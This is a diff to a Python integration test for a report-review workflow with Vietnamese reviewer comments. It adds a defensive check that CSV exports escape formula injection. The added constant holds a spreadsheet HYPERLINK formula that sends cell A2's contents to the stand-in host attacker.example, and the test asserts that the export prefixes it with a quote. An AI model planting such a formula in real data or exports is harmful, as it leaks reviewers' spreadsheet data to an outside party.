@@ -30,6 +30,8 @@ from tests.support.review_system import (
 
 pytestmark = pytest.mark.integration
 PDF = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
+# A comment that would be a live link in the reviewer's spreadsheet if exported as is.
+FORMULA_COMMENT = '=HYPERLINK("http://attacker.example/?d="&A2, "Đề nghị rà soát số cán bộ được tập huấn")'
 PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
 
 
@@ -119,7 +121,7 @@ def test_submit_request_evidence_adjust_return_resubmit_verify(system, partner):
     assert adjusted.json["reviewed_answers"]["villages_with_team"] == 7
 
     returned = post(system, report.id, "return", {
-        "comment": "Đề nghị rà soát số cán bộ được tập huấn", "criterion_comments": {"2.2": "Thiếu danh sách"},
+        "comment": FORMULA_COMMENT, "criterion_comments": {"2.2": "Thiếu danh sách"},
         "expected_version": adjusted.json["version"]})
     assert returned.status_code == 200 and returned.json["status"] == "returned"
     returned_report = wait_for(lambda: (r := system.report_status(report))["status"] == "returned" and r)
@@ -178,6 +180,7 @@ def test_submit_request_evidence_adjust_return_resubmit_verify(system, partner):
     rows = list(csv.DictReader(io.StringIO(exported.data.decode("utf-8-sig"))))
     assert [row["action"] for row in rows] == actions
     assert rows[3]["reason"] == "Danh sách chỉ xác nhận 7 thôn có tổ"
+    assert [row["reason"] for row in rows if row["action"] == "returned"] == ["'" + FORMULA_COMMENT]
 
     # Append-only, down to the database: no entry can be changed or removed.
     with pytest.raises(sa.exc.DBAPIError, match="append-only"):
